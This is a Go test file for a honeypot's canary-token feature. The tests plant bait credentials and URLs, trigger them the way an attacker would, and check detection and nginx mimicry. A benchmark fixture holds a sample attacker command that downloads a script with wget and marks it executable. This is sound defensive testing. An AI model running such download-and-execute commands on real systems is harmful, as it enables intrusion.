package node_test

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/netip"
	"os/exec"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/decnet-go/decnet/internal/canary"
	"github.com/decnet-go/decnet/internal/decky"
	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/intel"
	"github.com/decnet-go/decnet/internal/node"
	"github.com/decnet-go/decnet/internal/store"
	"github.com/decnet-go/decnet/internal/testkit"
)

// canaryToken is a token as the API shows it.
type canaryToken struct {
	UUID          string `json:"uuid"`
	Kind          string `json:"kind"`
	DeckyName     string `json:"decky_name"`
	Generator     string `json:"generator"`
	PlacementPath string `json:"placement_path"`
	CallbackURL   string `json:"callback_url"`
	CallbackHost  string `json:"callback_host"`
	AccessKeyID   string `json:"access_key_id"`
	State         string `json:"state"`
	TriggerCount  int    `json:"trigger_count"`
}

type canaryTokenList struct {
	Tokens []canaryToken `json:"tokens"`
	Total  int           `json:"total"`
}

// plant plants a token through the API.
func plant(t *testing.T, s *testkit.System, decky, generator string) canaryToken {
	t.Helper()
	var tok canaryToken
	if code := s.Do("POST", "/api/v1/canary/tokens", map[string]string{"decky_name": decky, "generator": generator}, &tok); code != http.StatusCreated {
		t.Fatalf("plant %s on %s: %d", generator, decky, code)
	}
	return tok
}

// canaryAttacker is the id of the attacker profile of ip, "" while there is none.
func canaryAttacker(s *testkit.System, ip string) string {
	var list testkit.Page[store.Attacker]
	if s.Get("/api/v1/attackers?limit=100", &list) != http.StatusOK {
		return ""
	}
	for _, a := range list.Data {
		if a.IP == ip {
			return a.UUID
		}
	}
	return ""
}

// waitTechnique polls until the attacker at ip carries technique.
func waitTechnique(t *testing.T, s *testkit.System, ip, technique string) {
	t.Helper()
	var got map[string]int
	s.Eventually(20*time.Second, fmt.Sprintf("%s tagged on attacker %s", technique, ip), func() bool {
		id := canaryAttacker(s, ip)
		if id == "" {
			return false
		}
		got = techniques(s, id)
		return got[technique] > 0
	})
	t.Logf("attacker %s: %v", ip, got)
}

// freeAddr is the even loopback address testkit.Fleet leaves free below
// the fleet's first decky: this test's own client address.
func freeAddr(d netip.Addr) netip.Addr {
	a := d.As4()
	a[3] &^= 1
	return netip.AddrFrom4(a)
}

// TestCanaryEndToEnd plants tokens through the API and uses them as an
// attacker would: curl fetches an http token's URL, an ssh login offers a
// planted AWS key id as its password, a resolver looks up a dns token's
// host name. Each lands on the attacker with its ATT&CK technique; a
// revoked token's file leaves the decky.
func TestCanaryEndToEnd(t *testing.T) {
	fleet := testkit.Fleet(1)
	s := testkit.StartConfig(t, node.Config{Fleet: fleet, CanaryDNSZone: "canary.example.test"})
	s.Login()
	client := freeAddr(fleet[0].IP)
	if s.Node.CanaryHTTPAddr == "" || s.Node.CanaryDNSAddr == "" {
		t.Fatalf("canary listeners: http %q dns %q", s.Node.CanaryHTTPAddr, s.Node.CanaryDNSAddr)
	}

	// http: the bait is in the decky's filesystem and names the URL.
	doc := plant(t, s, "decky-01", "git_config")
	if doc.Kind != "http" || doc.CallbackURL != "http://"+s.Node.CanaryHTTPAddr+"/c/"+lastSegment(doc.CallbackURL) || doc.State != "planted" {
		t.Fatalf("http token = %+v", doc)
	}
	// The bait's URL dresses the callback up (a deploy token, a repository
	// path); what matters is that it reaches the listener with the slug.
	slug := "/c/" + lastSegment(doc.CallbackURL)
	if out := sshRun(t, s, "cat "+doc.PlacementPath); !strings.Contains(out, s.Node.CanaryHTTPAddr+slug) {
		t.Fatalf("cat %s on the decky: %q lacks %s", doc.PlacementPath, out, slug)
	}
	const attacker = "198.51.100.77"
	out, err := exec.Command("curl", "-sS", "-i", "--max-time", "10", "-H", "X-Forwarded-For: "+attacker+", 10.0.0.1",
		"-A", "git/2.43.0", doc.CallbackURL).CombinedOutput()
	if err != nil || !strings.HasPrefix(string(out), "HTTP/1.1 200") || !strings.Contains(string(out), "Server: nginx") {
		t.Fatalf("curl %s: %v\n%s", doc.CallbackURL, err, out)
	}
	waitTechnique(t, s, attacker, "T1005")
	var triggers struct {
		Triggers []struct {
			SrcIP     string `json:"src_ip"`
			Via       string `json:"via"`
			UserAgent string `json:"user_agent"`
		} `json:"triggers"`
		Total int `json:"total"`
	}
	if code := s.Get("/api/v1/canary/tokens/"+doc.UUID+"/triggers", &triggers); code != http.StatusOK || triggers.Total != 1 ||
		triggers.Triggers[0].SrcIP != attacker || triggers.Triggers[0].Via != "http" || triggers.Triggers[0].UserAgent != "git/2.43.0" {
		t.Errorf("triggers: %d %+v", code, triggers)
	}

	// aws_passive: the planted key id offered as an ssh password.
	key := plant(t, s, "decky-01", "aws_creds")
	if key.Kind != "aws_passive" || !strings.HasPrefix(key.AccessKeyID, "AKIA") {
		t.Fatalf("aws token = %+v", key)
	}
	sshPassword(t, s.Addr("decky-01", "ssh"), client, "deploy", key.AccessKeyID)
	waitTechnique(t, s, client.String(), "T1552.001")

	// dns: a real resolver asks the listener for the token's host name.
	host := plant(t, s, "decky-01", "ssh_key")
	if host.Kind != "dns" || host.CallbackHost == "" || !strings.HasSuffix(host.CallbackHost, ".canary.example.test") {
		t.Fatalf("dns token = %+v", host)
	}
	res := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		d := net.Dialer{LocalAddr: &net.UDPAddr{IP: client.AsSlice()}}
		return d.DialContext(ctx, "udp", s.Node.CanaryDNSAddr)
	}}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if addrs, err := res.LookupHost(ctx, host.CallbackHost); err != nil || len(addrs) == 0 {
		t.Fatalf("resolve %s: %v %v", host.CallbackHost, addrs, err)
	}
	waitTechnique(t, s, client.String(), "T1018")

	// fingerprint page: the beacon of a scripted browser whose platform
	// contradicts its User-Agent, and whose WebRTC address is not the one
	// it connects from (a VPN).
	page := plant(t, s, "decky-01", "fingerprint_html")
	tok, err := s.Node.Store.CanaryToken(ctx, page.UUID)
	if err != nil {
		t.Fatal(err)
	}
	beacon, _ := json.Marshal(map[string]any{"k": tok.FingerprintNonce, "mint": canary.Mint(tok.Slug),
		"nav": map[string]any{"wd": true, "pl": "Linux x86_64", "lang": "en-US"},
		"scr": map[string]any{"w": 1920, "h": 1080}, "tz": map[string]any{"n": "Europe/Berlin"},
		"rtc": map[string]any{"c": []string{"192.0.2.10", "8.8.4.4"}}})
	const browser = "198.51.100.78"
	if out, err := exec.Command("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10",
		"-H", "X-Forwarded-For: "+browser, "-A", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		page.CallbackURL+"?d="+base64.RawURLEncoding.EncodeToString(beacon)).Output(); err != nil || string(out) != "200" {
		t.Fatalf("beacon: %v %s", err, out)
	}
	waitTechnique(t, s, browser, "T1595") // R0052 navigator.webdriver
	waitTechnique(t, s, browser, "T1036") // R0089 platform contradicts the User-Agent
	waitTechnique(t, s, browser, "T1090") // R0053 WebRTC address elsewhere

	// Revoke: the file is gone, a second revoke is a conflict, and the URL
	// still answers (stealth) but records nothing.
	if code := s.Do("DELETE", "/api/v1/canary/tokens/"+doc.UUID, nil, nil); code != http.StatusOK {
		t.Fatalf("revoke: %d", code)
	}
	if out := sshRun(t, s, "cat "+doc.PlacementPath); strings.Contains(out, slug) || !strings.Contains(out, "No such file") {
		t.Errorf("after revoke, cat %s: %q", doc.PlacementPath, out)
	}
	if code := s.Do("DELETE", "/api/v1/canary/tokens/"+doc.UUID, nil, nil); code != http.StatusConflict {
		t.Errorf("second revoke: %d, want 409", code)
	}
	if out, err := exec.Command("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10", doc.CallbackURL).Output(); err != nil || string(out) != "200" {
		t.Errorf("revoked URL: %v %s", err, out)
	}
	var after canaryToken
	if s.Get("/api/v1/canary/tokens/"+doc.UUID, &after); after.State != "revoked" || after.TriggerCount != 1 {
		t.Errorf("revoked token = %+v, want revoked with its one trigger", after)
	}
}

// TestCanaryListenerLooksLikeNginx: a request net/http refuses before any
// handler runs is answered with nginx's error page, not Go's text.
func TestCanaryListenerLooksLikeNginx(t *testing.T) {
	s := testkit.StartConfig(t, node.Config{Fleet: testkit.Fleet(1)})
	cases := []struct {
		name, request, status, page string
	}{
		{"garbage request line", "HELLO\r\n\r\n", "HTTP/1.1 400 Bad Request", "<title>400 Bad Request</title>"},
		{"no host", "GET /c/x HTTP/1.1\r\n\r\n", "HTTP/1.1 400 Bad Request", "<title>400 Bad Request</title>"},
		{"huge header", "GET /c/x HTTP/1.1\r\nHost: a\r\nX-Pad: " + strings.Repeat("a", 64<<10) + "\r\n\r\n",
			"HTTP/1.1 400 Bad Request", "<title>400 Request Header Or Cookie Too Large</title>"},
		{"unknown transfer encoding", "POST /c/x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: zip\r\n\r\n",
			"HTTP/1.1 501 Not Implemented", "<title>501 Not Implemented</title>"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c, err := net.DialTimeout("tcp", s.Node.CanaryHTTPAddr, 5*time.Second)
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(10 * time.Second))
			go c.Write([]byte(tc.request)) // the server may answer before reading it all
			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			body := new(strings.Builder)
			bufio.NewReader(resp.Body).WriteTo(body)
			status := "HTTP/1.1 " + resp.Status
			if status != tc.status || resp.Header.Get("Server") != "nginx" || resp.Header.Get("Content-Type") != "text/html" ||
				!strings.Contains(body.String(), tc.page) || !strings.Contains(body.String(), "<hr><center>nginx</center>") {
				t.Errorf("answer %q %v\n%s", status, resp.Header, body)
			}
		})
	}
}

// TestCanaryBaseline: a decky with ssh gets the baseline tokens when it
// first runs, a decky without ssh or telnet none; a restart plants nothing
// twice but writes the files again; a decky deployed through the API gets
// its own baseline.
func TestCanaryBaseline(t *testing.T) {
	fleet := testkit.Fleet(2)
	fleet[1].Services = []string{"http"}
	cfg := node.Config{Fleet: fleet, CanaryBaseline: "git_config,aws_creds"}
	s := testkit.StartConfig(t, cfg)
	s.Login()
	tokensOf := func(s *testkit.System, decky string) canaryTokenList {
		var l canaryTokenList
		s.Get("/api/v1/canary/tokens?decky_name="+decky, &l)
		return l
	}
	s.Eventually(20*time.Second, "two baseline tokens on decky-01", func() bool { return tokensOf(s, "decky-01").Total == 2 })
	if n := tokensOf(s, "decky-02").Total; n != 0 {
		t.Errorf("decky-02 (http only) has %d tokens, want 0", n)
	}

	// A restart: no new tokens, the bait is written again.
	s.Stop()
	cfg.DataDir, cfg.Fleet = s.DataDir, nil
	s = testkit.StartConfig(t, cfg)
	s.Login()
	var git canaryToken
	for _, tok := range tokensOf(s, "decky-01").Tokens {
		if tok.Generator == "git_config" {
			git = tok
		}
	}
	if git.UUID == "" {
		t.Fatal("no git_config baseline token after the restart")
	}
	s.Eventually(20*time.Second, "the git_config bait back in the decky", func() bool {
		return strings.Contains(sshRun(t, s, "cat "+git.PlacementPath), "/c/"+lastSegment(git.CallbackURL))
	})
	if n := tokensOf(s, "decky-01").Total; n != 2 {
		t.Errorf("after a restart decky-01 has %d tokens, want 2", n)
	}

	// A decky deployed through the API gets its baseline too.
	ini := fmt.Sprintf("[decky-new]\nip=%s\nservices=ssh\n", freeAddr(fleet[0].IP))
	if code := s.Do("POST", "/api/v1/deckies/deploy", map[string]any{"ini_content": ini}, nil); code != http.StatusAccepted {
		t.Fatalf("deploy: %d", code)
	}
	s.Eventually(20*time.Second, "baseline tokens on the deployed decky", func() bool { return tokensOf(s, "decky-new").Total == 2 })
}

// sshPassword attempts an ssh password login from the local address from,
// as a bot trying a key it found would; the outcome does not matter.
func sshPassword(t *testing.T, addr string, from netip.Addr, user, password string) {
	t.Helper()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: from.AsSlice()}, Timeout: 5 * time.Second}
	c, err := d.Dial("tcp", addr)
	if err != nil {
		t.Fatalf("dial %s from %s: %v", addr, from, err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	cfg := &ssh.ClientConfig{User: user, Auth: []ssh.AuthMethod{ssh.Password(password)}, HostKeyCallback: ssh.InsecureIgnoreHostKey()}
	if sc, _, _, err := ssh.NewClientConn(c, addr, cfg); err == nil {
		sc.Close()
	}
}

func lastSegment(u string) string { return u[strings.LastIndexByte(u, '/')+1:] }

// TestCanaryConfig: bad canary settings stop the start with the flag to
// fix; with the HTTP listener off, http tokens are refused with the fix
// while other kinds still plant.
func TestCanaryConfig(t *testing.T) {
	busy, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer busy.Close()
	bad := []struct {
		name string
		cfg  node.Config
		want string
	}{
		{"unknown baseline generator", node.Config{CanaryBaseline: "git_config,nope"}, `--canary-baseline: unknown generator "nope"`},
		{"relative base", node.Config{CanaryHTTPListen: "127.0.0.1:0", CanaryHTTPBase: "canary.example:8088"}, "--canary-http-base"},
		{"base with a query", node.Config{CanaryHTTPListen: "127.0.0.1:0", CanaryHTTPBase: "http://canary.example/?x=1"}, "--canary-http-base"},
		{"HTTP port taken", node.Config{CanaryHTTPListen: busy.Addr().String()}, "--canary-http-listen"},
		{"DNS address bad", node.Config{CanaryHTTPListen: "off", CanaryDNSZone: "c.example", CanaryDNSListen: "256.0.0.1:53"}, "--canary-dns-listen"},
	}
	for _, tc := range bad {
		t.Run(tc.name, func(t *testing.T) {
			cfg := tc.cfg
			cfg.DataDir, cfg.Listen, cfg.Fleet = t.TempDir(), "127.0.0.1:0", []decky.Decky{}
			cfg.Intel, cfg.Log = &intel.Config{Enabled: false}, slog.New(slog.DiscardHandler)
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			n, err := node.Start(ctx, cfg)
			if err == nil {
				n.Shutdown(ctx)
				t.Fatalf("started; want an error naming %s", tc.want)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q does not name %s", err, tc.want)
			}
		})
	}

	s := testkit.StartConfig(t, node.Config{Fleet: testkit.Fleet(1), CanaryHTTPListen: "off"})
	s.Login()
	if s.Node.CanaryHTTPAddr != "" || s.Node.CanaryDNSAddr != "" {
		t.Errorf("listeners with http off and no zone: %q %q", s.Node.CanaryHTTPAddr, s.Node.CanaryDNSAddr)
	}
	code := s.Do("POST", "/api/v1/canary/tokens", map[string]string{"decky_name": "decky-01", "generator": "git_config"}, nil)
	if code != http.StatusUnprocessableEntity {
		t.Errorf("http token with the listener off: %d, want 422", code)
	}
	if tok := plant(t, s, "decky-01", "aws_creds"); tok.AccessKeyID == "" {
		t.Errorf("aws token with http off = %+v", tok)
	}
}

// BenchmarkCanaryPassiveScan is what every ingested event costs the node
// for the passive canary scan (canarySource), for events that carry no
// key id: a command, a login attempt, a web request.
func BenchmarkCanaryPassiveScan(b *testing.B) {
	st, err := store.Open(context.Background(), "sqlite:"+b.TempDir()+"/decnet.db")
	if err != nil {
		b.Fatal(err)
	}
	defer st.Close()
	l := &canary.Listener{Tokens: st, Sink: nopSink{}, Log: slog.New(slog.DiscardHandler)}
	cmd := event.New("decky-01", "ssh", event.TypeCommand)
	cmd.SrcIP, cmd.Fields = "198.51.100.7", map[string]any{"command": "wget http://198.51.100.9/x.sh -O /tmp/x; chmod +x /tmp/x", "username": "root"}
	login := event.New("decky-01", "ssh", event.TypeLoginAttempt)
	login.SrcIP, login.Credential = "198.51.100.7", event.NewCredential("root", event.SecretPlaintext, []byte("hunter2"), event.OutcomeFailure)
	req := event.New("decky-01", "http", "request")
	req.SrcIP, req.Fields = "198.51.100.7", map[string]any{"method": "GET", "path": "/wp-login.php?redirect_to=%2Fwp-admin%2F",
		"headers": map[string]any{"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "Accept": "*/*", "Cookie": "a=b; c=d"}}
	evs := []event.Event{cmd, login, req}
	ctx := context.Background()
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		if l.ScanEvent(ctx, evs[i%len(evs)]) {
			b.Fatal("fired without a key id")
		}
	}
}

type nopSink struct{}

func (nopSink) Emit(event.Event)    {}
func (nopSink) Publish(string, any) {}
